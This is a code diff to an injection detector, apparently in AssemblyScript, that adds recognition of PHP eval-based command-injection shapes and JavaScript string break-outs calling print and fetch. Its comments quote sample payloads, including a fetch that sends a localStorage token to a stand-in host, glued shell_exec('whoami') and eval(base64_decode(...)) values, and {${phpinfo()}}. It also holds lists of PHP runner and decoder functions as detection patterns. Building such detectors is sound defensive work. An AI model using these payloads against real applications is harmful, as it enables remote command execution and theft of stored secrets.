@@ -10,8 +10,9 @@
 // The quote must be the value's first: 'a' && this.ok closes and opens a literal of the
 // application's own code (a JavaScript snippet in prose), where an injection breaks out once.
 import { g32, s32, report } from "./state";
-import { wordIs } from "./keywords";
-import { R_SQLI_NOSQL_JAVASCRIPT, R_XSS_JS_BREAKOUT } from "./generated/tables";
+import { wordIs, digitsOnly } from "./keywords";
+import { R_SQLI_NOSQL_JAVASCRIPT, R_XSS_JS_BREAKOUT, R_CMDI_EXEC_CALL, K_C_STRONG, K_C_DEFINE_EXEC, KW_MAX_WORD } from "./generated/tables";
+import { ST_LEX, LX_WORD } from "./state";
 
 // Region st + ST_SSJS
 // (J_THIS, J_DB, J_DATE first: one i64 and one i32 load tell that nothing is pending; J_LAST_END, J_PREV adjacent:
@@ -46,12 +47,14 @@ function writingMethod(w: usize, len: u32): bool {
 
 /** (inlined in the lexer's dispatch: the common case makes no call) */
 // @ts-ignore: decorator
-@inline export function ssjsWord(st: usize, j: usize, word: usize, w0: u32, len: u32, start: u32, end: u32, ordinary: bool = false): void {
+@inline export function ssjsWord(st: usize, j: usize, flags: u64, word: usize, w0: u32, len: u32, start: u32, end: u32, ordinary: bool = false): void {
   if (g32(j, JB_MODE) != 0) jsbWord(st, j, word, len, start, end); // (before J_LAST_END and J_PREV move: it reads them)
-  // (nothing pending, the common case: only `db` or `new` can start a shape)
+  if (g32(j, PH) != 0) phpWord(st, j, flags, word, len, start, end);
+  // (nothing pending, the common case: only `db` or `new` can start a shape; a shape added here goes into ssjsOrdinaryShape too)
   // (`ordinary`: scanner.ts's word of a shape ssjsOrdinaryShape passes)
+  // (J_PREV takes the word's length in bits 8 and up, up to 255: no byte compares equal to it; phpCall reads it)
   if (idle(j) && (ordinary || (!(len == 2 && w0 == 0x64) && !(len == 3 && w0 == 0x6e)))) {
-    store<u64>(j, <u64>end, J_LAST_END); // (J_PREV 0)
+    store<u64>(j, <u64>end | (<u64>(len < 255 ? len : 255) << 40), J_LAST_END);
   } else ssjsWordFull(st, j, word, w0, len, start, end);
 }
 
@@ -84,7 +87,7 @@ function ssjsWordFull(st: usize, j: usize, word: usize, w0: u32, len: u32, start
   else if (n == 1 && len == 4 && wordIs(word, len, "date")) s32(j, J_DATE, 5);
   else if (n == 2 && len == 5 && wordIs(word, len, "while") && (g32(j, J_PREV) == 0x7d || g32(j, J_PREV) == 0x3b)) s32(j, J_DATE, 3); // do{…}while  ;while
   else if (n != 2) s32(j, J_DATE, 0);
-  s32(j, J_PREV, 0); // (while must follow '}' or ';' itself, not a word after one)
+  s32(j, J_PREV, (len < 255 ? len : 255) << 8); // (while must follow '}' or ';' itself, not a word after one; the length: see ssjsWord)
 }
 
 /** (inlined in the lexer's dispatch: the common case makes no call) */
@@ -92,6 +95,8 @@ function ssjsWordFull(st: usize, j: usize, word: usize, w0: u32, len: u32, start
 @inline export function ssjsPunct(st: usize, j: usize, c: u32, start: u32, end: u32): void {
   // (a quote, a backtick or the '{' of '${' may start a break-out; emitSpace's constant 0x20 folds these tests to the mode's)
   if (g32(j, JB_MODE) != 0 || c == 0x27 || c == 0x22 || c == 0x60 || c == 0x7b) jsbPunct(st, j, c, start, end);
+  // (PHP's shapes: a '(' or a break-out byte starts one, any byte goes on with one under way; before J_PREV moves)
+  if (g32(j, PH) != 0 || (c < 0x40 && ((PH_BYTES >> <u64>c) & 1) != 0) || c == 0x7b) phpPunct(st, j, c, start, end);
   if (c == 0x20) return; // spaces separate the parts of every shape
   // (nothing pending and no quote or ';' to count: the common case)
   if (idle(j) && c != 0x27 && c != 0x22 && c != 0x3b) {
@@ -147,6 +152,7 @@ function ssjsPunctFull(st: usize, j: usize, c: u32, start: u32, end: u32): void 
 //   '+Reflect.construct(Function,[name])()+'  Function.call(       a function built from a string, not called by name
 //   '+fetch('//x/?'+localStorage.token)+'                          a stored secret read (localStorage. sessionStorage[)
 //   ';with(location)href=name//  ${open(name,'_self')}           location as a with's scope, window.open called
+//   '+print()+'  ${print()}  '+fetch('//x.example')+'              the window's print and fetch called by their bare names
 //
 // What leaves the string: the quote (or backtick), then optionally closers ) ] }, inline comments /**/, and an
 // operator glued to it (; - + * % | & ^), or whitespace and ';'. A quote with a word or a space and a prose dash after
@@ -202,8 +208,10 @@ const S_FUNC_CLOSE: u32 = 21; // (Function): '(' calls it
 const S_STORE: u32 = 22;      // localStorage sessionStorage: '.' or '[' reads it
 const S_WITH: u32 = 23;       // with: waiting for '(' glued
 const S_WITH_P: u32 = 24;     // with(: location as the scope reports (with(location)href=name)
-const S_OPEN: u32 = 25;       // open (not a member: xhr.open): '(' glued calls window.open (open(name,'_self') runs a
-                              // javascript: URL in this window)
+const S_OPEN: u32 = 25;       // open print fetch (not a member: xhr.open, doc.print): '(' or '`' glued calls the window's
+                              // function (open(name,'_self') runs a javascript: URL in this window; print() opens the print
+                              // dialog, the proof where alert is blocked in a cross-origin frame; fetch('//x') is an
+                              // out-of-band probe)
 const S_IMPORT_PL: u32 = 26;  // import(s: a ')' glued is English's plural marker ("Import(s) and export(s)"); anything else reports
 const S_IMPORT_PLD: u32 = 27; // import(s): a space after it (or the end) is the sentence's; code after it ('-import(s)-',
                               // import(s)//) reports
@@ -263,7 +271,12 @@ function jsbWord(st: usize, j: usize, word: usize, len: u32, start: u32, end: u3
   else if (wordIs(word, len, "construct") || wordIs(word, len, "apply")) next = S_CTOR;
   else if (wordIs(word, len, "function")) next = S_FUNC;
   else if (wordIs(word, len, "with")) next = S_WITH;
+  // (the window's own functions that act when called by their bare name; alert confirm prompt are xss.ts's sinks anywhere.
+  // Any other name called after '+' or in '${' is how code builds a string, 'Total: '+total()+'!' and `${fmt(d)}`; after
+  // the other operators xss.ts reports any call: '-f()-'. print and fetch only after a full break-out: prose puts a comma
+  // after a quoted word and then names the call, "`document`, for example a `fetch()` call")
   else if (wordIs(word, len, "open")) next = dotted ? 0 : S_OPEN;
+  else if (wordIs(word, len, "print") || wordIs(word, len, "fetch")) next = dotted || (mode & JB_WEAK) != 0 ? 0 : S_OPEN;
   else if (wordIs(word, len, "localstorage") || wordIs(word, len, "sessionstorage")) next = S_STORE;
   else if (globalName(word, len)) next = S_GLOBAL;
   s32(j, JB_SINK, next);
@@ -396,7 +409,7 @@ function jsbSink(st: usize, j: usize, c: u32, end: u32): void {
   else if (s == S_ASSIGN || s == S_CTOR) next = space ? s : c == 0x28 ? s + 1 : 0;
   else if (s == S_WITH) next = c == 0x28 ? S_WITH_P : 0; // (glued: "with (location) known" is prose's)
   else if (s == S_ASSIGN_P || s == S_CTOR_P || s == S_WITH_P) next = space ? s : 0;
-  else if (s == S_OPEN && c == 0x28) { jsbReport(st, j, end); return; } // open(name,'_self')
+  else if (s == S_OPEN && (c == 0x28 || (c == 0x60 && !weak))) { jsbReport(st, j, end); return; } // open(name,'_self')  print()  print`1`
   else if (s == S_FUNC || s == S_FUNC_SP) next = space ? S_FUNC_SP : s == S_FUNC_SP ? 0 : c == 0x2e ? S_FUNC_DOT : c == 0x29 ? S_FUNC_CLOSE : 0;
   else if (s == S_FUNC_CLOSE && c == 0x28) { jsbReport(st, j, end); return; } // (Function)(code)
   else if (s == S_STORE) {
@@ -404,4 +417,123 @@ function jsbSink(st: usize, j: usize, c: u32, end: u32): void {
     next = space ? s : 0;
   }
   s32(j, JB_SINK, next);
+}
+
+// ---------------------------------------------------------------------------------------------------------------------
+// PHP code given to eval() (or a preg /e, create_function, assert): commix's eval-based technique appends a call to the
+// value itself, or after a break-out (;  )  .  ${  {${  a line break). cmdi.ts reads a dangerous call written as
+// a word of its own (;system('id')  {${exec('id')}}); these are the shapes where the call has no word of its own or
+// runs nothing but shows the injection works:
+//
+//   127.0.0.1eval(base64_decode('…'))  INJECT_HEREpassthru('id')   a PHP function's name glued to the value (the last
+//   xshell_exec('whoami')  1system(id)                             word ends with it): runners given a command (quoted,
+//                                                                  or bare: PHP before 8 reads a bare name as its string),
+//                                                                  eval/assert given a decoder's call or a runner
+//   x;phpinfo()  {${phpinfo()}}  1phpinfo()//                      phpinfo() glued to the value or after a break-out
+//   {${anyname(…)}}                                                 PHP's complex syntax: the call names the variable, so
+//                                                                  any function runs (no template language writes {${)
+//   x;print(22+31);  '.print(1+2).'  ${print(3+4)}  xprint(5+6)     the arithmetic probe after a break-out or glued (not
+//                                                                  at a line's start: pasted code's print(2+3) line)
+//
+// print(22+31) alone is not taken: nothing runs but a sum, and it is what tutorials and questions write ("print(2+3)
+// gives 5"); after a break-out byte glued to it, or glued to the value, it is the probe. Look-alikes stay clean:
+// "the system (see docs)", medieval(…), retrieval('x'), filesystem('ext4') (a runner's tail given no command, an eval's
+// tail given no decoder or runner), "run phpinfo() to see" (spaced from what precedes it).
+// The name is read from the lexer's copy of the word (its first KW_MAX_WORD bytes: a longer word glued to the call is not read).
+// ( ) ; . and a line break ('{' tested apart; the quotes of an argument only matter with a step under way)
+const PH_BYTES: u64 = (<u64>1 << 0x28) | (<u64>1 << 0x29) | (<u64>1 << 0x3b) | (<u64>1 << 0x2e) | (<u64>1 << 0x0a);
+const PH: u32 = 56;        // step | end << 4 (the end of the byte or word that made the step)
+const PH_MARK: u32 = 60;   // steps 1 and up: where a report starts; step 0: end + 1 of the last break-out byte (; ) . { \n)
+const PH_RUN: u32 = 1;     // runner( glued: a quote or a command word
+const PH_RUN_Q: u32 = 2;   // runner(': a command word
+const PH_EVAL: u32 = 3;    // eval( assert( glued to a value: a quote, a decoder or a runner
+const PH_INFO: u32 = 4;    // phpinfo(: ')'
+const PH_PRINT: u32 = 5;   // print(: a number
+const PH_PRINT_N: u32 = 6; // print(22: + - * /
+const PH_PRINT_OP: u32 = 7; // print(22+: a number
+const PH_PRINT_N2: u32 = 8; // print(22+31: ')'
+const PH_CPLX1: u32 = 9;   // '{' (then '$' '{' opens the complex syntax)
+const PH_CPLX2: u32 = 10;  // '{$'
+const PH_CPLX: u32 = 11;   // '{${': a name
+const PH_CPLX_W: u32 = 12; // '{${name': '(' calls it
+
+
+function phpStep(j: usize, step: u32, end: u32): void { s32(j, PH, step | (end << 4)); }
+
+/** A word while a PHP shape is under way (`flags`: its keyword classes). */
+export function phpWord(st: usize, j: usize, flags: u64, word: usize, len: u32, start: u32, end: u32): void {
+  const v = g32(j, PH);
+  const step = v & 15, adj = (v >> 4) == start;
+  s32(j, PH, 0);
+  if (!adj || step == 0) return;
+  if ((step == PH_RUN || step == PH_RUN_Q) && (flags & K_C_STRONG) != 0) report(st, R_CMDI_EXEC_CALL, g32(j, PH_MARK), end);
+  else if (step == PH_EVAL && ((flags & K_C_DEFINE_EXEC) != 0 || decoder(word, len))) report(st, R_CMDI_EXEC_CALL, g32(j, PH_MARK), end);
+  else if (step == PH_PRINT && digitsOnly(word, len)) phpStep(j, PH_PRINT_N, end);
+  else if (step == PH_PRINT_OP && digitsOnly(word, len)) phpStep(j, PH_PRINT_N2, end);
+  else if (step == PH_CPLX) { phpStep(j, PH_CPLX_W, end); s32(j, PH_MARK, start - 3); }
+}
+
+/** PHP's decoding functions: their output handed to eval is code the value hides. */
+function decoder(w: usize, len: u32): bool {
+  return wordIs(w, len, "base64_decode") || wordIs(w, len, "str_rot13") || wordIs(w, len, "gzinflate") || wordIs(w, len, "gzuncompress") ||
+    wordIs(w, len, "gzdecode") || wordIs(w, len, "hex2bin") || wordIs(w, len, "convert_uudecode") || wordIs(w, len, "urldecode") ||
+    wordIs(w, len, "rawurldecode") || wordIs(w, len, "strrev");
+}
+
+/** Punctuation for the PHP shapes: ( ) ; . { and a line break, or any byte while one is under way. */
+export function phpPunct(st: usize, j: usize, c: u32, start: u32, end: u32): void {
+  const v = g32(j, PH);
+  const step = v & 15, adj = (v >> 4) == start;
+  let next: u32 = 0;
+  if (step != 0 && adj) {
+    if (step == PH_RUN && (c == 0x27 || c == 0x22)) next = PH_RUN_Q;
+    else if (step == PH_EVAL && (c == 0x27 || c == 0x22)) next = PH_EVAL;
+    else if (step == PH_INFO && c == 0x29) { report(st, R_CMDI_EXEC_CALL, g32(j, PH_MARK), end); s32(j, PH, 0); return; }
+    else if (step == PH_PRINT_N && (c == 0x2b || c == 0x2d || c == 0x2a || c == 0x2f)) next = PH_PRINT_OP;
+    else if (step == PH_PRINT_N2 && c == 0x29) { report(st, R_CMDI_EXEC_CALL, g32(j, PH_MARK), end); s32(j, PH, 0); return; }
+    else if (step == PH_CPLX1 && c == 0x24) next = PH_CPLX2;
+    else if (step == PH_CPLX2 && c == 0x7b) next = PH_CPLX;
+    else if (step == PH_CPLX_W && c == 0x28) { report(st, R_CMDI_EXEC_CALL, g32(j, PH_MARK), end); s32(j, PH, 0); return; }
+  }
+  if (next != 0) { phpStep(j, next, end); return; }
+  s32(j, PH, 0);
+  if (c == 0x28) phpCall(st, j, start, end);
+  // (a break-out byte: a whole name glued after it counts as one glued to the value)
+  if (c == 0x7b) { phpStep(j, PH_CPLX1, end); s32(j, PH_MARK, end + 1); }
+  // (not a quote: "type 'phpinfo()' to see" quotes the name, and code needs an operator after a string; a line break is
+  // marked in bit 31: a line of its own is where pasted code writes print(2+3), so it counts for phpinfo only)
+  else if (c == 0x3b || c == 0x29 || c == 0x2e) s32(j, PH_MARK, end + 1);
+  else if (c == 0x0a) s32(j, PH_MARK, (end + 1) | 0x80000000);
+}
+
+/** '(' glued to a word: is the word, or its tail, a PHP function that runs code or shows the injection? */
+function phpCall(st: usize, j: usize, start: u32, end: u32): void {
+  // (the word's length is kept in J_PREV's bits 8 and up, J_LAST_END its end: see ssjsWord)
+  const len = g32(j, J_PREV) >> 8;
+  if (g32(j, J_LAST_END) != start || len == 0 || len > KW_MAX_WORD) return;
+  const w = st + ST_LEX + LX_WORD;
+  const ws = start - len;
+  // a break-out byte glued before the word (step 0 keeps its end + 1 in PH_MARK)
+  const mark = g32(j, PH_MARK);
+  const afterBreak = (mark & 0x7fffffff) == ws + 1;
+  const afterLine = mark >> 31 != 0;
+  let n: u32 = 0, kind: u32 = 0;
+  if ((len >= 10 && wordIs(w + len - 10, 10, "shell_exec"))) { n = 10; kind = PH_RUN; }
+  else if ((len >= 10 && wordIs(w + len - 10, 10, "pcntl_exec"))) { n = 10; kind = PH_RUN; }
+  else if ((len >= 9 && wordIs(w + len - 9, 9, "proc_open"))) { n = 9; kind = PH_RUN; }
+  else if ((len >= 8 && wordIs(w + len - 8, 8, "passthru"))) { n = 8; kind = PH_RUN; }
+  else if ((len >= 6 && wordIs(w + len - 6, 6, "system"))) { n = 6; kind = PH_RUN; }
+  else if ((len >= 5 && wordIs(w + len - 5, 5, "popen"))) { n = 5; kind = PH_RUN; }
+  else if ((len >= 4 && wordIs(w + len - 4, 4, "exec"))) { n = 4; kind = PH_RUN; }
+  else if ((len >= 4 && wordIs(w + len - 4, 4, "eval"))) { n = 4; kind = PH_EVAL; }
+  else if ((len >= 6 && wordIs(w + len - 6, 6, "assert"))) { n = 6; kind = PH_EVAL; }
+  else if ((len >= 7 && wordIs(w + len - 7, 7, "phpinfo"))) { n = 7; kind = PH_INFO; }
+  else if ((len >= 5 && wordIs(w + len - 5, 5, "print"))) { n = 5; kind = PH_PRINT; }
+  if (kind == 0) return;
+  // (a whole runner or eval is cmdi.ts's and xss.ts's; phpinfo and print whole only after a break-out byte)
+  if (n == len && (kind == PH_RUN || kind == PH_EVAL || !afterBreak || (kind == PH_PRINT && afterLine))) return;
+  // (print glued to a lone n r t: an escaped line break or tab before a line of code, "x = 5\nprint(2+3)" in a string literal)
+  if (kind == PH_PRINT && len == n + 1 && (load<u8>(w) == 0x6e || load<u8>(w) == 0x72 || load<u8>(w) == 0x74)) return;
+  phpStep(j, kind, end);
+  s32(j, PH_MARK, start - n);
 }
